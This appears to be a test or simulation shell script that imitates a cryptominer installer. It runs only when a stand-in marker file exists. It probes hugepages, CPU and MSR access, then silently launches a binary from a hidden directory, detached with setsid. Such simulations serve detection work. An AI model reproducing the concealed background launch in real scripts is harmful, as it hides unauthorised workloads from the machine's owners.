#!/bin/sh
# Prepares a machine as miners' installers do, then starts one. It asks only whether it may write kernel settings; it writes none.
[ -e /usr/share/doc/stand-in/README ] || exit 0
[ -w /proc/sys/vm/nr_hugepages ] && echo "huge pages may be set"
cat /proc/sys/vm/nr_hugepages /proc/cpuinfo > /dev/null 2>&1
dd if=/dev/cpu/0/msr of=/dev/null bs=8 count=1 2>/dev/null
modprobe -n msr 2>/dev/null
setsid /usr/lib/.cache/worker > /dev/null 2>&1 &
wait
